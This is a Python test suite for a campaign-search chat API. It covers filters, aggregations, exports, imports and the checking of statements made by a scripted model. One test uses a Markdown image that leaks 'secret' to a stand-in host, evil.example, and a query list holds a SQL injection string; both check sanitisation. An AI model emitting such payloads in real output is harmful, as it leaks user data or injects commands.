"""Questions about campaigns over REST, with the offline and a scripted model (E1-E31, E-R1 to E-R11)."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.doubles.chat_double import ChatDouble, Say
from tests.doubles.command import command_in_process


def search_call(by: str = "filter", **args: Any) -> Say:
    return Say(calls=[("call_1", "search", json.dumps({"by": by, **args}))])


def answer_call(*statements: dict[str, Any], **more: Any) -> Say:
    return Say(calls=[("call_2", "answer", json.dumps({"statements": [*statements], **more}))])


async def post_question(
    api: httpx.AsyncClient, message: str, status: int = 200, **more: Any
) -> dict[str, Any]:
    reply = await api.post("/api/chat", json={"message": message, "provider": "offline", **more})
    assert reply.status_code == status, reply.text
    return dict(reply.json())


async def test_a_question_about_offers_lists_only_offers_of_matching_campaigns(api: httpx.AsyncClient):
    """E24, E27, E-R1: a value prop and a sentiment are recognised in the person's words."""
    reply = await post_question(api, "what are the offers from cash back, premium campaigns")
    assert reply["detectedFilters"] == {
        "value_prop": ["Cash Back / Rewards"],
        "sentiment": ["Premium"],
        "has_offer": True,
    }
    assert reply["total"] == len(reply["campaigns"]) > 5
    assert reply["campaignsSource"] == "filter"
    offers = {f"{campaign['company']}: {campaign['offer']}" for campaign in reply["campaigns"]}
    lines = reply["response"].splitlines()
    assert lines[0] == f"{reply['total']} campaigns match."
    assert {*lines[1:]} <= offers
    assert {*reply["campaigns"][0]} >= {"id", "company", "key_value_props", "capture_date", "image_s3_urls"}
    assert reply["steps"][0]["name"] == "search"
    assert "campaigns" not in reply["steps"][0]["result"]


async def test_a_follow_up_question_keeps_the_filters_of_the_conversation(api: httpx.AsyncClient):
    """E-R6: such as "and on instagram" and "only urgent"."""
    first = await post_question(api, "show me travel campaigns")
    second = await post_question(api, "and on instagram", conversationId=first["conversationId"])
    assert second["detectedFilters"] == {"channel": ["instagram"], "value_prop": ["Travel Benefits"]}
    last = await post_question(api, "only urgent", conversationId=first["conversationId"])
    assert last["detectedFilters"]["sentiment"] == ["Urgent"]
    assert 0 < last["total"] < second["total"] < first["total"]
    exported = await api.get(f"/api/campaigns/export?conversationId={first['conversationId']}")
    assert exported.headers["content-type"].startswith("text/csv")
    assert len(exported.text.splitlines()) == 1 + len(last["campaigns"])


@pytest.mark.parametrize(
    ("question", "word"),
    [
        ("show me no email campaigns", "no"),
        ("how many successful campaigns are there", "successful"),
        ("compare cheap travel campaigns by channel", "cheap"),
        ("show the offers of zebra campaigns", "zebra"),
        ("show me email or facebook campaigns", "or"),
        ("find campaigns about cards without fees", "without fees"),
    ],
)
async def test_the_offline_model_declines_a_word_that_it_cannot_filter_by(
    api: httpx.AsyncClient, question: str, word: str
):
    """A-R1: a word that changes the meaning is named, not dropped, and nothing is searched."""
    reply = await post_question(api, question)
    assert (reply["steps"], reply["campaigns"]) == ([], [])
    assert f"“{word}”" in reply["response"]


async def test_the_offline_model_leaves_out_a_negated_value_and_counts_products(api: httpx.AsyncClient):
    """E20, E27: "non-premium" filters no premium campaign, "recent" is a range of days."""
    reply = await post_question(api, "show me non-premium campaigns")
    assert reply["detectedFilters"] == {"exclude": {"sentiment": ["Premium"]}}
    reply = await post_question(api, "how many mortgage campaigns are there")
    assert (reply["total"], reply["response"].splitlines()[0]) == (10, "10 campaigns match.")
    reply = await post_question(api, "What are the offers from recent Cash Back, Premium campaigns?")
    assert {*reply["detectedFilters"]} == {"value_prop", "sentiment", "has_offer", "date_range"}
    assert all(one["offer"] for one in reply["campaigns"])


async def test_counts_and_trends_are_returned_as_aggregations(api: httpx.AsyncClient):
    """E20, E-R7."""
    reply = await post_question(api, "what is the most common channel")
    counts = [group["count"] for group in reply["aggregation"]["groups"]]
    assert counts == sorted(counts, reverse=True)
    assert sum(counts) == 360
    reply = await post_question(api, "trend of travel campaigns")
    months = [group["value"] for group in reply["aggregation"]["groups"]]
    assert months == sorted(months)
    assert len(months) > 12


@pytest.mark.parametrize("rank", ["most", "least"])
@pytest.mark.parametrize("group", ["company", "channel", "month", "sentiment", "style"])
async def test_the_most_and_the_least_common_value_is_that_of_the_counts(
    api: httpx.AsyncClient, rank: str, group: str
):
    """E20, E-R7: the answer is proven by the table, and says nothing of single campaigns."""
    reply = await post_question(api, f"what is the {rank} common {group}")
    counts = {row["value"]: row["count"] for row in reply["aggregation"]["groups"]}
    wanted = max(counts.values()) if rank == "most" else min(counts.values())
    named, table = reply["response"].splitlines()
    assert named.endswith(f": {wanted}.")
    assert all((name in named) == (count == wanted) for name, count in counts.items())
    assert [f"{name} {count}" in table for name, count in counts.items()] == [True] * len(counts)


async def test_a_trend_has_every_month_of_the_table_in_order(api: httpx.AsyncClient):
    """E20."""
    reply = await post_question(api, "show the trend of email campaigns")
    rows = ", ".join(f"{row['value']} {row['count']}" for row in reply["aggregation"]["groups"])
    assert reply["response"] == f"By month: {rows}."
    assert reply["aggregation"]["groupBy"] == "month"


async def test_quoted_words_are_searched_in_the_copy_and_topics_by_meaning(api: httpx.AsyncClient):
    """E19, E21, E25."""
    reply = await post_question(api, 'find campaigns mentioning "window seat"')
    texts = [campaign["full_campaign_text"].casefold() for campaign in reply["campaigns"]]
    assert reply["total"] > 2
    assert all("window seat" in text for text in texts)
    reply = await post_question(api, "find campaigns about airport lounges and boarding")
    value_props = [campaign["key_value_props"] for campaign in reply["campaigns"][:10]]
    assert sum("Travel Benefits" in names for names in value_props) >= 8
    assert reply["campaignsSource"] == "meaning"


async def test_active_filters_of_the_client_apply_to_every_search(api: httpx.AsyncClient):
    """E5, E23, E-R3: a filter in the question replaces the client's filter of the same dimension."""
    question, filters = "show me travel campaigns", {"channel": "email", "sentiment": ["Playful"]}
    reply = await post_question(api, question, activeFilters=filters)
    assert {campaign["channel"] for campaign in reply["campaigns"]} == {"email"}
    assert reply["detectedFilters"]["sentiment"] == ["Playful"]
    reply = await post_question(api, "show me instagram campaigns", activeFilters=filters)
    assert reply["detectedFilters"]["channel"] == ["instagram"]
    reply = await post_question(api, question, activeFilters=filters, applyFiltersToQuery=False)
    assert len({campaign["channel"] for campaign in reply["campaigns"]}) > 1
    error = await post_question(api, question, 422, activeFilters={"channel": "radio"})
    assert "facebook" in error["remedy"]


async def test_unsupported_statements_are_returned_to_the_model_once_and_then_left_out(
    api: httpx.AsyncClient, model: ChatDouble
):
    """The refusal names each offer, figure, company, date and campaign that no search returned."""
    campaign = (await api.get("/api/campaigns?channel=email&has_offer=true&limit=1")).json()["campaigns"][0]
    supported: dict[str, Any] = {
        "text": f"{campaign['company']}: {campaign['offer']}",
        "campaigns": [campaign["id"]],
        "offers": [campaign["offer"]],
    }
    unsupported: list[dict[str, Any]] = [
        {"text": "They give a free car.", "campaigns": [campaign["id"]], "offers": ["a free car"]},
        {"text": "It cost 123456789 dollars.", "figures": [123456789]},
        {"text": "Acme Corp does it, too.", "companies": ["Acme Corp"]},
        {"text": "It ran on 1999-01-01.", "dates": ["1999-01-01"]},
        {"text": "There were 77777 of them."},
        {"text": "And this one.", "campaigns": ["c-9999"]},
    ]
    answer = answer_call(supported, *unsupported)
    model.script(search_call(channel=["email"], has_offer=True), answer, answer)
    reply = await post_question(api, "offers by email?", provider="openai")
    refusal = model.requests[2].messages[-1]["content"]
    for problem in ("'a free car' is", "123456789", "'Acme Corp' is", "'1999-01-01'", "'77777'", "'c-9999'"):
        assert problem in refusal
    note = "(6 statements were left out: no result proves them.)"
    assert reply["response"] == f"{supported['text']}\n\n{note}"
    assert len(reply["campaigns"]) == 50 < reply["total"]


async def test_supported_statements_and_suggestions_are_in_the_reply(
    api: httpx.AsyncClient, model: ChatDouble
):
    """E9, E-R10: of a search the model gets only the count and a summary."""
    statement = {"text": "Email has 74 campaigns.", "figures": [74]}
    model.script(
        search_call(channel=["email"], group_by="channel"), answer_call(statement, suggestions=["And X?"])
    )
    reply = await post_question(api, "how many?", provider="openai")
    assert (reply["response"], reply["suggestions"]) == (statement["text"], ["And X?"])
    search_result = model.requests[1].messages[-1]["content"]
    assert "full_campaign_text" not in search_result
    assert len(search_result) < 10_000
    assert "<now>" in model.requests[0].messages[1]["content"]


@pytest.mark.parametrize("searches", [True, False])
async def test_an_image_in_an_answer_is_shown_as_a_link(
    api: httpx.AsyncClient, model: ChatDouble, *, searches: bool
):
    """E-R1: a client that renders Markdown loads nothing that a model names."""
    text = "Look: ![this](https://evil.example/?q=secret) <img src=x>"
    answer = answer_call({"text": text}) if searches else Say(text)
    model.script(*([search_call()] if searches else []), answer)
    reply = await post_question(api, "what is there", provider="openai")
    assert reply["response"] == "Look: [this](https://evil.example/?q=secret) &lt;img src=x>"


async def test_figures_in_a_plain_text_answer_are_checked(api: httpx.AsyncClient, model: ChatDouble):
    """A wrong figure is sent back once, then replaced by the result; a greeting claims nothing."""
    search, right, wrong = search_call(channel=["email"]), "There are 74 of them.", "There are 75 of them."
    model.script(search, Say(right))
    assert (await post_question(api, "how many?", provider="openai"))["response"] == right
    model.script(search, Say(wrong), Say(wrong))
    reply = await post_question(api, "how many?", provider="openai")
    assert reply["response"].startswith("74 campaigns match:")
    greeting = "Hello! Ask me about the campaigns."
    model.script(Say(greeting))
    assert (await post_question(api, "hi", provider="openai"))["response"] == greeting


async def test_a_question_makes_at_most_five_searches(api: httpx.AsyncClient, model: ChatDouble):
    """E2, E-R5."""
    channels = ("email", "facebook", "instagram", "twitter", "email")
    model.script(*(search_call(channel=[name]) for name in channels), Say("I looked several times."))
    reply = await post_question(api, "everything", provider="openai")
    assert len(reply["steps"]) == 5
    assert model.requests[-1].body["tool_choice"] == "none"
    assert reply["response"]


async def test_the_answer_to_a_search_without_a_match_says_that_no_campaign_matches(api: httpx.AsyncClient):
    """E18: and what was searched."""
    reply = await post_question(api, 'find campaigns mentioning "zebra crossing at noon"')
    answer = "No campaign matches.\n\nSearched the copy only, not the offers."
    assert (reply["response"], reply["campaigns"], reply["total"]) == (answer, [], 0)
    reply = await post_question(api, 'find campaigns mentioning "card"')
    assert reply["total"]
    assert reply["response"].endswith("Searched the copy only, not the offers.")


async def test_an_answer_in_another_language_comes_with_the_extent_of_its_search(
    api: httpx.AsyncClient, model: ChatDouble
) -> None:
    """E18: the model's words stay as they are; in English the words have it as well."""
    search = search_call(by="words", query="card")
    spanish, english = "Estas son las campañas que hablan de eso.", "These are the campaigns about that."
    model.script(search, Say(spanish), search, Say(english))
    reply = await post_question(api, "¿Qué campañas hablan de tarjetas?", provider="openai")
    note = "Searched the copy only, not the offers."
    extent = {"by": "words", "filters": [], "absentValues": [], "noOffers": False, "text": note}
    assert (reply["response"], reply["searchExtent"]) == (spanish, extent)
    reply = await post_question(api, "Which ones mention a card?", provider="openai")
    assert (reply["response"], reply["searchExtent"]) == (f"{english}\n\n{note}", extent)
    model.script(search_call(channel=["email"]), Say("Hay 74 campañas."))
    reply = await post_question(api, "¿Cuántas hay por correo?", provider="openai")
    assert reply["searchExtent"] is None


async def test_a_question_about_offers_in_a_library_without_any_is_answered_with_that(
    api: httpx.AsyncClient, model: ChatDouble
) -> None:
    rows = "company,channel,headline,date\nMiel,email,Bread at four for 29 % off,2026-05-01\n"
    imported = await api.post("/api/campaigns/import?fileName=ads.csv", content=rows.encode())
    assert imported.status_code in {200, 201}, imported.text
    for arguments in ({"by": "offers", "query": "29 % off"}, {"by": "filter", "has_offer": True}):
        model.script(search_call(**arguments), Say("No campaign matches."))
        reply = await post_question(api, "which ads had 20 % off?", provider="openai")
        assert reply["response"].endswith("No campaign of this library has an offer.")
        assert "offers cannot be searched in it" in json.dumps(model.requests[-1].body)
    assert "Searched the offers only" not in reply["response"]
    assert "Searched by has offer." in reply["response"]


ODD_QUERIES = ["AND OR NOT", '"', "(((", "a:b^2~3", "x" * 2_000, "*", "' OR 1=1 --", "12345", "\\"]


@pytest.mark.parametrize("query", ODD_QUERIES, ids=range(len(ODD_QUERIES)))
async def test_search_operators_in_queries_are_plain_text(
    api: httpx.AsyncClient, model: ChatDouble, query: str
):
    """E-R9, X13."""
    for kind in ("words", "offers"):
        model.script(search_call(kind, query=query), Say("Look."))
        reply = await post_question(api, "find it", provider="openai")
        assert reply["steps"][0]["status"] == "completed"


async def test_the_total_counts_offers_beyond_the_returned_page(api: httpx.AsyncClient, model: ChatDouble):
    """E12, E-R8, E-R11: the word is counted in offers, not in the copy."""
    usual = {"company": "Acme", "channel": "email", "capture_date": "2026-01-01", "campaign_text": "miles"}
    offers = ["A pen", "Free miles"] * 60
    rows = [{**usual, "id": f"n-{number}", "offer": offer} for number, offer in enumerate(offers)]
    lines = "\n".join(json.dumps(row) for row in rows)
    imported = await api.post("/api/campaigns/import", params={"fileName": "x.jsonl"}, content=lines)
    assert imported.json()["imported"] == 120, imported.text
    model.script(search_call("offers", query="miles"), Say("60 of them."))
    reply = await post_question(api, "which offers have miles?", provider="openai")
    assert (reply["total"], len(reply["campaigns"])) == (60, 50)


@pytest.mark.parametrize(
    "search",
    [
        search_call(channel=["email"]),
        search_call("offers", query="for"),
        search_call("words", query="card"),
    ],
    ids=lambda search: json.loads(search.calls[0][2])["by"],
)
async def test_the_export_of_a_conversation_has_every_matching_campaign(
    api: httpx.AsyncClient, model: ChatDouble, search: Say
):
    """E30: the reply has only the first campaigns and the number of all."""
    model.script(search, Say("Many."))
    reply = await post_question(api, "which?", provider="openai")
    assert reply["total"] > len(reply["campaigns"])
    exported = await api.get(f"/api/campaigns/export?conversationId={reply['conversationId']}")
    ids = [row["id"] for row in csv.DictReader(io.StringIO(exported.text))]
    assert len(ids) == len({*ids}) == reply["total"]
    assert {campaign["id"] for campaign in reply["campaigns"]} <= {*ids}
    assert exported.headers.get("x-left-out", "0") == "0"


async def test_an_export_streams_all_campaigns_of_the_library(api: httpx.AsyncClient):
    """Newest first, and without a length, so that a large library does not fill the memory."""
    lines = "".join(f"c-{n},Alder,email,2026-03-{1 + n % 28:02}\n" for n in range(1_201))
    content = f"id,company,channel,capture_date\n{lines}"
    await api.post("/api/campaigns/import?fileName=x.csv", content=content)
    exported = await api.get("/api/campaigns/export")
    assert "content-length" not in exported.headers
    rows = [*csv.DictReader(io.StringIO(exported.text))]
    assert sorted(row["id"] for row in rows) == sorted(f"c-{n}" for n in range(1_201))
    days = [row["capture_date"] for row in rows]
    assert days == sorted(days, reverse=True)


@pytest.mark.slow
async def test_an_export_can_have_more_campaigns_than_a_list(api: httpx.AsyncClient):
    """E31."""
    lines = "".join(f"c-{n},Alder,email,2026-03-01\n" for n in range(10_050))
    content = f"id,company,channel,capture_date\n{lines}"
    await api.post("/api/campaigns/import?fileName=x.csv", content=content)
    exported = await api.get("/api/campaigns/export")
    assert len(exported.text.splitlines()) == 10_051


async def test_an_unknown_filter_value_is_returned_to_the_model_with_the_valid_ones(
    api: httpx.AsyncClient, model: ChatDouble
):
    model.script(search_call(channel=["radio"]), search_call(channel=["email"]), Say("74 there."))
    reply = await post_question(api, "radio?", provider="openai")
    refusal = model.requests[1].messages[-1]["content"]
    assert "there is no channel 'radio'" in refusal
    assert "direct_mail" in refusal
    assert reply["response"] == "74 there."


async def test_invalid_requests_are_refused(api: httpx.AsyncClient):
    """X13."""
    assert "empty" in (await post_question(api, " ", 422))["error"]
    assert (await post_question(api, "x" * 30_000, 422))["error"]
    error = await post_question(api, "show me email campaigns", 404, conversationId="none")
    assert error["type"] == "missing"
    for path in ("/api/campaigns/none", "/api/campaigns?channel=radio", "/api/campaigns?limit=0"):
        assert (await api.get(path)).status_code in {400, 404, 422}


ROWS = """\
ID;Company;Channel;Offer;Key Value Props;Imagery Sentiment;Capture Date;Volume
a-1;Own & Co;E-mail;5% back;cash back|travel;premium;2026-09-30;1,200
a-2;Own & Co;;;;;2026-09-30;
a-1;Own & Co;email;;;;2026-09-30;
a-3;Other;instagram;;no fee;playful;30.09.2026;
a-4;Other;instagram;;;;someday;
"""


async def test_an_owners_library_can_be_imported_updated_exported_and_deleted(api: httpx.AsyncClient):
    """An import updates by id and reports refused rows with line and reason, or is all or nothing."""
    refused = await api.post("/api/campaigns/import?fileName=x.csv&allOrNothing=true", content=ROWS)
    assert (refused.status_code, "line 3" in refused.text) == (422, True)
    assert (await api.get("/api/campaigns")).json()["total"] == 360, "the sample library is still used"
    report = (await api.post("/api/campaigns/import?fileName=x.csv", content=ROWS)).json()
    assert (report["imported"], report["new"], report["refusedCount"]) == (2, 2, 3)
    assert [row["line"] for row in report["refused"]] == [3, 4, 6]
    assert "channel is missing" in report["refused"][0]["reason"]
    listing = (await api.get("/api/campaigns")).json()
    assert sorted(campaign["id"] for campaign in listing["campaigns"]) == ["a-1", "a-3"]
    assert listing["total"] == 2
    campaign = (await api.get("/api/campaigns/a-1")).json()
    assert campaign["key_value_props"] == ["Cash Back / Rewards", "Travel Benefits"]
    assert campaign["volume"] == 1200
    reply = await post_question(api, "show me premium campaigns")
    assert [match["id"] for match in reply["campaigns"]] == ["a-1"]
    changed_rows = [{**campaign, "offer": "6% back"}]
    report = (await api.post("/api/campaigns/import?fileName=x.json", json=changed_rows)).json()
    assert (report["imported"], report["new"]) == (1, 0)
    exported = (await api.get("/api/campaigns/export")).text
    assert "6% back" in exported
    lines = "\n".join(json.dumps({**campaign, "id": f"b-{n}"}) for n in range(40)) + "\n{broken\n"
    report = (await api.post("/api/campaigns/import?fileName=x.jsonl", content=lines)).json()
    assert (report["imported"], report["refusedCount"]) == (40, 1)
    sample = await api.delete("/api/campaigns/c-0001")
    assert sample.status_code == 404, "the owner's library replaces the sample library"
    assert (await api.delete("/api/campaigns/b-1")).json() == {"deleted": 1}
    assert (await api.delete("/api/campaigns/b-1")).status_code == 404
    assert (await api.delete("/api/campaigns")).json() == {"deleted": 41}
    assert (await api.get("/api/campaigns")).json()["total"] == 360


async def test_a_campaign_of_the_sample_library_cannot_be_deleted(api: httpx.AsyncClient):
    """X13: the error names the sample library and the remedy."""
    assert (await api.get("/api/campaigns/c-0001")).status_code == 200
    refused = await api.delete("/api/campaigns/c-0001")
    assert refused.status_code == 409
    assert "sample library" in refused.json()["error"]
    assert "import" in refused.json()["remedy"]
    assert (await api.get("/api/campaigns/c-0001")).status_code == 200
    assert (await api.delete("/api/campaigns/none")).status_code == 404


async def test_a_search_can_be_saved_and_run_again(api: httpx.AsyncClient):
    search = {"message": "show me travel campaigns", "activeFilters": {"channel": ["email"]}}
    assert (await api.put("/api/searches/mine", json=search)).json()["searches"]["mine"]["message"]
    reply = (await api.post("/api/searches/mine/run")).json()
    assert {campaign["channel"] for campaign in reply["campaigns"]} == {"email"}
    assert (await api.get("/api/searches")).json()["searches"].keys() == {"mine"}
    assert (await api.post("/api/searches/none/run")).status_code == 404
    assert (await api.delete("/api/searches/mine")).json() == {"searches": {}}
    assert (await api.delete("/api/searches/mine")).status_code == 404


async def test_an_answer_can_be_streamed(api: httpx.AsyncClient):
    headers = {"Accept": "text/event-stream"}
    body = {"message": "how many email campaigns are there", "provider": "offline"}
    text = (await api.post("/api/chat", json=body, headers=headers)).text
    assert "event: step" in text
    assert "74 campaigns match." in text


def test_the_command_imports_a_file_and_answers_a_question(
    valkey_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    with command_in_process(valkey_url, tmp_path, monkeypatch, capsys) as callsheet:
        reply = callsheet("ask", "how many email campaigns are there", "--provider", "offline")
        assert reply.code == 0, reply.err
        assert "74 campaigns match." in reply.out
        assert "10 of 74 campaigns" in reply.out
        rows = ["id,company,channel,capture_date", "1,Own,email,2026-09-01", "2,Own,,2026-09-01"]
        (tmp_path / "x.csv").write_text("\n".join(rows))
        import_result = callsheet(
            "ask", "--import", "x.csv", "show me email campaigns", "--provider", "offline"
        )
        assert import_result.code == 0, import_result.err
        assert "Imported 1 campaign, 1 of them new." in import_result.out
        assert "Line 3 refused: channel is missing" in import_result.out
        assert callsheet("ask", "--import", "x.csv", "--all-or-nothing").code == 1
        (tmp_path / "bad.csv").write_text("\n".join([rows[0], rows[2]]))
        nothing = callsheet("ask", "--import", "bad.csv")
        assert (nothing.code, "Imported 0 campaigns" in nothing.out) == (1, True)
        assert "Line 2 refused: channel is missing" in nothing.out
        assert callsheet("ask").code == 2
        json_result = callsheet("ask", "show me email campaigns", "--provider", "offline", "--json")
        assert json.loads(json_result.out)["total"] == 1


@pytest.mark.parametrize(
    ("earlier", "source"),
    [
        ("filter_campaigns", "filter"),
        ("full_text_search", "words"),
        ("semantic_search", "meaning"),
        ("search_offers", "offers"),
    ],
)
async def test_the_result_of_a_conversation_of_an_earlier_version_is_read_as_one_of_today(
    api: httpx.AsyncClient, earlier: str, source: str
) -> None:
    """Its state names the tool that searched, and counts the nearest in meaning."""
    first = await post_question(api, "what are the offers from cash back, premium campaigns")
    path = f"/threads/{first['conversationId']}/state"
    before = (await api.get(path)).json()["values"]["result"]
    shown = before["campaigns"][:2]
    stored = {**before, "source": earlier, "query": shown[0]["offer"], "filters": {}, "campaigns": shown}
    reply = await api.post(path, json={"values": {"result": {**stored, "total": 150}}})
    assert reply.status_code == 200, reply.text
    after = (await api.get(path)).json()["values"]["result"]
    assert (after["source"], after["total"]) == (source, 2 if source == "meaning" else 150)
    exported = await api.get(f"/api/campaigns/export?conversationId={first['conversationId']}")
    rows = [*csv.DictReader(io.StringIO(exported.text))]
    if source == "filter":
        library = await api.get("/api/campaigns/export")
        assert len(rows) == len([*csv.DictReader(io.StringIO(library.text))])
    elif source == "meaning":
        assert [row["id"] for row in rows] == [one["id"] for one in shown]
    elif source == "offers":
        assert shown[0]["id"] in [row["id"] for row in rows]
